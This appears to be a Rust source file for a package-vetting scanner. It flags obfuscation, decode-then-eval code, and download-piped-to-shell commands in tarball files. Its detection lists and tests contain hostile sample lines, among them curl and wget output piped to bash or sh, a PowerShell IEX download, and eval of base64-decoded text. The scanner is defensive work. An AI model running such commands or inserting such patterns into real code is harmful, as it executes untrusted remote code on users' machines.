//! Reads one file: an automaton finds the tokens of all marks in one pass, and a few bytes around some of them are read again.

use std::sync::LazyLock;

use crate::vetting::content::marks::{Mark, MarkSet};
use crate::vetting::content::runs::{self, UnicodeRuns};
use crate::vetting::content::tokens::TokenFinder;

/// The names of an obfuscator that a file needs. Honest files have one or two.
const MIN_HEX_NAMES: u32 = 12;

/// The escapes in a row that make a long escaped text.
const MIN_ESCAPES: u32 = 64;

/// How far a decoder may be from the call that runs its result.
const NEAR_BYTES: usize = 100;

/// The longest name of a file that is kept.
const MAX_NAME_BYTES: usize = 200;

/// Spaces between a parenthesis and what it holds.
const MAX_SPACES: usize = 16;

/// Files of fewer bytes are readable, whatever their lines are.
const MIN_MINIFIED_BYTES: usize = 4_096;

/// The average length of a line from which a file counts as minified.
const MINIFIED_LINE_BYTES: usize = 400;

/// Decoders whose result is text.
const DECODERS: [&[u8]; 10] = [
    b"atob(",
    b"Buffer.from(",
    b"fromCharCode",
    b"fromCodePoint",
    b"unescape(",
    b"inflate",
    b"gunzip",
    b"brotliDecompress",
    b"ecipher",
    b"b64decode",
];

/// What a text that names a file of the package begins with.
const NAMES_FILE: [&str; 7] = ["\"./", "'./", "`./", "\"../", "'../", "`../", "__dirname"];

/// The ends of file names that commands start: `exec("sh setup.sh")`, `exec("node setup.js")`.
const SCRIPT_NAMES: [&str; 9] = [".sh", ".bat", ".cmd", ".ps1", ".vbs", ".py", ".js", ".cjs", ".mjs"];

/// What one file holds.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct ContentScan {
    pub marks: MarkSet,
    /// The first line of each mark.
    pub lines: Vec<(Mark, u32)>,
    /// The paths that it names relative to its folder, as written.
    pub named: Vec<Box<str>>,
    /// Whether its lines are too long to read.
    pub is_minified: bool,
}

/// What reading all files of a tarball may cost besides the pass over them. An attacker fills files with tokens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ScanBudget {
    /// Tokens around which bytes are read again. A file in which it runs out counts as one that runs what it decodes.
    pub checks: u32,
    /// Names of other files that are kept.
    pub names: usize,
}

impl Default for ScanBudget {
    fn default() -> Self {
        // 20,000 checks take about 20 ms, and 50,000 names at most 10 MB.
        Self { checks: 20_000, names: 50_000 }
    }
}

#[derive(Clone, Copy)]
enum Pattern {
    Token(Mark),
    HexName,
    Escape,
    NamedFile,
    /// The end of a name of a script.
    ScriptName,
    /// A call that loads or runs the result of what follows.
    Loads,
}

struct Scanner {
    finder: TokenFinder,
    patterns: Vec<Pattern>,
}

/// `None` if the tokens do not compile, which a test excludes.
static SCANNER: LazyLock<Option<Scanner>> = LazyLock::new(Scanner::new);

impl Scanner {
    fn new() -> Option<Self> {
        let tokens = Mark::ALL.iter().flat_map(|mark| mark.tokens().iter().map(|token| (*token, Pattern::Token(*mark))));
        let escapes = ["\\x", "\\u00"].map(|text| (text, Pattern::Escape));
        let named = NAMES_FILE.map(|text| (text, Pattern::NamedFile));
        let loads = ["require(", "import("].map(|text| (text, Pattern::Loads));
        let scripts = SCRIPT_NAMES.map(|text| (text, Pattern::ScriptName));
        let all = tokens.chain([("_0x", Pattern::HexName)]).chain(escapes).chain(named).chain(scripts).chain(loads);
        let (texts, patterns): (Vec<_>, Vec<_>) = all.unzip();
        Some(Self { finder: TokenFinder::new(&texts)?, patterns })
    }
}

/// Reads a file. Returns `None` if it cannot be read.
pub(crate) fn scan(content: &[u8], budget: &mut ScanBudget) -> Option<ContentScan> {
    let scanner = SCANNER.as_ref()?;
    let (counted, escapes) = ((0, 1), (0, 0, 0));
    let mut state = ScanState { content, budget, found: ContentScan::default(), counted, hex_names: 0, escapes };
    scanner.finder.find(content, |found| state.take(scanner.patterns[found.token], found.start, found.end));
    let runs = [(Mark::SymbolCode, runs::find_symbol_code(content)), (Mark::Blob, runs::find_blob(content))];
    let hidden = if content.is_ascii() { UnicodeRuns::default() } else { runs::find_hidden(content) };
    let hidden = [(Mark::Bidi, hidden.bidi), (Mark::InvisibleText, hidden.invisible)];
    for (mark, at) in runs.into_iter().chain(hidden) {
        if let Some(at) = at {
            state.note(mark, at);
        }
    }
    let lines = line_breaks(content) + 1;
    state.found.is_minified = content.len() >= MIN_MINIFIED_BYTES && content.len() / lines >= MINIFIED_LINE_BYTES;
    Some(state.found)
}

struct ScanState<'a> {
    content: &'a [u8],
    budget: &'a mut ScanBudget,
    found: ContentScan,
    /// A position, and the number of its line.
    counted: (usize, u32),
    hex_names: u32,
    /// The start, the end and the length in escapes of the current run of escapes.
    escapes: (usize, usize, u32),
}

impl ScanState<'_> {
    fn take(&mut self, pattern: Pattern, start: usize, end: usize) {
        match pattern {
            Pattern::Token(mark) => self.take_token(mark, start, end),
            Pattern::HexName => {
                let digits = self.content[end..].iter().take_while(|byte| byte.is_ascii_hexdigit()).take(4).count();
                self.hex_names += u32::from(digits == 4 && self.begins_word(start));
                if self.hex_names == MIN_HEX_NAMES {
                    self.note(Mark::HexNames, start);
                }
            }
            Pattern::Escape => {
                let (first, last, count) = self.escapes;
                self.escapes = if last == start { (first, end + 2, count + 1) } else { (start, end + 2, 1) };
                if self.escapes.2 == MIN_ESCAPES {
                    self.note(Mark::EscapedText, self.escapes.0);
                }
            }
            Pattern::NamedFile => self.take_name(start, end),
            Pattern::ScriptName => self.take_script_name(start, end),
            Pattern::Loads => {
                let after = self.after(end);
                let decodes = [&b"atob("[..], b"Buffer.from(", b"String.fromCharCode", b"'data:", b"\"data:"];
                if self.begins_word(start) && decodes.iter().any(|decoder| after.starts_with(decoder)) {
                    self.note(Mark::LoadsDecoded, start);
                }
            }
        }
    }

    fn take_token(&mut self, mark: Mark, start: usize, end: usize) {
        if !self.begins_word(start) {
            return;
        }
        self.note(mark, start);
        let is_checked = match mark {
            Mark::Eval | Mark::FunctionText | Mark::VmCode | Mark::ExecCall => !self.found.marks.contains(Mark::RunsDecoded),
            Mark::Curl | Mark::WindowsDownload => !self.found.marks.contains(Mark::PipeToShell),
            _ => false,
        };
        if !is_checked {
            return;
        }
        let Some(left) = self.budget.checks.checked_sub(1) else { return self.note(Mark::RunsDecoded, start) };
        self.budget.checks = left;
        match mark {
            Mark::Eval | Mark::FunctionText | Mark::VmCode | Mark::ExecCall => {
                let near = self.near(end);
                if DECODERS.iter().any(|decoder| contains(near, decoder)) {
                    self.note(Mark::RunsDecoded, start);
                }
            }
            Mark::Curl => {
                let near = self.near(end);
                let shells = [&b"| sh"[..], b"|sh", b"| bash", b"|bash", b"| sudo", b"| node", b"|node", b"| python"];
                if shells.iter().any(|shell| contains(near, shell)) {
                    self.note(Mark::PipeToShell, start);
                }
            }
            Mark::WindowsDownload => {
                let before = &self.content[start.saturating_sub(NEAR_BYTES)..start];
                let runs = |text: &[u8]| [&b"iex"[..], b"IEX", b"Invoke-Expression"].iter().any(|call| contains(text, call));
                if runs(before) || runs(self.near(end)) {
                    self.note(Mark::PipeToShell, start);
                }
            }
            _ => {}
        }
    }

    /// Returns the rest of the line, up to [`NEAR_BYTES`].
    fn near(&self, from: usize) -> &[u8] {
        let rest = &self.content[from..self.content.len().min(from + NEAR_BYTES)];
        rest.split(|byte| *byte == b'\n').next().unwrap_or_default()
    }

    /// Returns what follows a parenthesis.
    fn after(&self, from: usize) -> &[u8] {
        let rest = &self.content[from..];
        let spaces = rest.iter().take(MAX_SPACES).take_while(|byte| byte.is_ascii_whitespace()).count();
        &rest[spaces..]
    }

    /// Notes a path below the file's folder that a text names.
    fn take_name(&mut self, start: usize, end: usize) {
        let Some(left) = self.budget.names.checked_sub(1) else { return };
        let quoted = if self.content[start] == b'_' {
            // `__dirname + "/x.js"`, `join(__dirname, "x.js")`, `${__dirname}/x.js`
            let rest = &self.content[end..self.content.len().min(end + MAX_NAME_BYTES)];
            let text = rest.trim_ascii_start();
            let text = text.strip_prefix(b",").or_else(|| text.strip_prefix(b"+")).unwrap_or(text).trim_ascii_start();
            match text.first() {
                Some(b'"' | b'\'' | b'`' | b'}') => &text[1..],
                _ => return,
            }
        } else {
            &self.content[start + 1..self.content.len().min(start + 1 + MAX_NAME_BYTES)]
        };
        let Some(length) = quoted.iter().position(|byte| matches!(byte, b'"' | b'\'' | b'`' | b'?' | b'\n')) else { return };
        if let Ok(name) = std::str::from_utf8(&quoted[..length]) {
            self.budget.names = left;
            self.found.named.push(name.into());
        }
    }

    /// Notes a script that a command names: the word that ends at `end`. Names that begin with a quote are mostly imports.
    fn take_script_name(&mut self, dot: usize, end: usize) {
        let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.' | b'/' | b'\\');
        if self.content.get(end).is_some_and(u8::is_ascii_alphanumeric) {
            return;
        }
        let from = dot.saturating_sub(MAX_NAME_BYTES);
        let Some(before) = self.content[from..dot].iter().rposition(|byte| !is_word(byte)) else { return };
        let is_argument =
            self.content[from + before] == b' ' || !matches!(self.content[dot + 1..end], [b'j', ..] | [_, b'j', ..]);
        let (name, Some(left)) = (&self.content[from + before + 1..end], self.budget.names.checked_sub(1)) else { return };
        if let Ok(name) = std::str::from_utf8(name).map(Box::from)
            && is_argument
        {
            self.budget.names = left;
            self.found.named.push(name);
        }
    }

    /// Checks that the token at `start` is no end of a longer name.
    fn begins_word(&self, start: usize) -> bool {
        let is_letter = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$');
        let first = self.content.get(start).is_some_and(|byte| is_letter(*byte));
        !first || start.checked_sub(1).is_none_or(|before| !is_letter(self.content[before]))
    }

    fn note(&mut self, mark: Mark, at: usize) {
        if self.found.marks.contains(mark) {
            return;
        }
        self.found.marks.insert(mark);
        if self.counted.0 > at {
            self.counted = (0, 1);
        }
        let lines = line_breaks(&self.content[self.counted.0..at]);
        self.counted = (at, self.counted.1.saturating_add(u32::try_from(lines).unwrap_or(u32::MAX)));
        self.found.lines.push((mark, self.counted.1));
    }
}

fn line_breaks(text: &[u8]) -> usize {
    memchr::memchr_iter(b'\n', text).count()
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn marks(text: &str) -> Vec<Mark> {
        scan(text.as_bytes(), &mut ScanBudget::default()).unwrap().marks.iter().collect()
    }

    #[test]
    fn tokens_begin_at_a_word() {
        assert_eq!(marks("medieval(1); isFunction(x)"), []);
        assert_eq!(marks("const x = eval(y); new Function(z)"), [Mark::Eval, Mark::FunctionText]);
        assert_eq!(marks("require('child_process').execSync('id')"), [Mark::ChildProcess, Mark::ExecCall]);
    }

    #[test]
    fn code_that_runs_what_it_decodes_is_marked() {
        for text in [
            "eval(atob('YQ=='))",
            "eval(Buffer.from(x, `base64`).toString())",
            "new Function(String.fromCharCode(1, 2))()",
            "globalThis.eval( zlib.inflateSync(data) + '')",
            "m._compile(zlib.brotliDecompressSync(x).toString(), 'a')",
        ] {
            assert!(marks(text).contains(&Mark::RunsDecoded), "{text}");
        }
        for text in ["require(Buffer.from('6368', 'hex').toString())", "import('data:text/javascript,1')", "require( atob('x'))"]
        {
            assert!(marks(text).contains(&Mark::LoadsDecoded), "{text}");
        }
        assert!(!marks("eval(x)\n\natob(y)").contains(&Mark::RunsDecoded));
    }

    #[test]
    fn download_that_a_shell_reads_is_marked() {
        for text in ["curl -sL https://x.example/a.sh | bash", "wget -qO- x|sh", "powershell -c \"IEX(iwr x.example)\""] {
            assert!(marks(text).contains(&Mark::PipeToShell), "{text}: {:?}", marks(text));
        }
        assert!(!marks("curl -sL https://x.example/a.tgz > a").contains(&Mark::PipeToShell));
    }

    #[test]
    fn obfuscated_text_is_marked_from_some_length_on() {
        let names = |count: usize| (0..count).map(|at| format!("var _0x{at:04x}=1;")).collect::<Vec<_>>().concat();
        assert_eq!((marks(&names(12)), marks(&names(11))), (vec![Mark::HexNames], vec![]));
        let escapes = |count: usize| format!("'{}'", "\\x61".repeat(count));
        assert_eq!((marks(&escapes(64)), marks(&escapes(63))), (vec![Mark::EscapedText], vec![]));
        assert_eq!(marks(&"\\x61-".repeat(999)), []);
    }

    #[test]
    fn lines_and_named_files_are_noted() {
        let text = "a\nb\nrequire('./lib/x')\nfork(__dirname + '/y.js', join(__dirname, \"z\"))\n eval(1)\nfetch(2)";
        let found = scan(text.as_bytes(), &mut ScanBudget::default()).unwrap();
        assert_eq!(found.lines, [(Mark::Eval, 5), (Mark::Fetch, 6)]);
        assert_eq!(found.named, ["./lib/x".into(), "/y.js".into(), "z".into()] as [Box<str>; 3]);
        let commands = "exec('/bin/bash run.sh'); exec(\"node a/b.js -x\"); spawn('x.bat'); from 'y.js'; a.shift()";
        let found = scan(commands.as_bytes(), &mut ScanBudget::default()).unwrap();
        assert_eq!(found.named, ["run.sh".into(), "a/b.js".into(), "x.bat".into()] as [Box<str>; 3]);
        let found = scan(text.as_bytes(), &mut ScanBudget::default()).unwrap();
        assert!(!found.is_minified);
        assert!(scan("x".repeat(5_000).as_bytes(), &mut ScanBudget::default()).unwrap().is_minified);
    }

    #[test]
    fn budget_bounds_what_tokens_cost() {
        let mut budget = ScanBudget { checks: 3, names: 2 };
        let found = scan("eval(1);".repeat(3).as_bytes(), &mut budget).unwrap();
        assert!(budget.checks == 0 && !found.marks.contains(Mark::RunsDecoded));
        assert!(scan(b"eval(1)", &mut budget).unwrap().marks.contains(Mark::RunsDecoded));
        let names = scan(b"'./a' './b' './c'", &mut budget).unwrap().named;
        assert_eq!((names.len(), budget.names), (2, 0));
    }
}
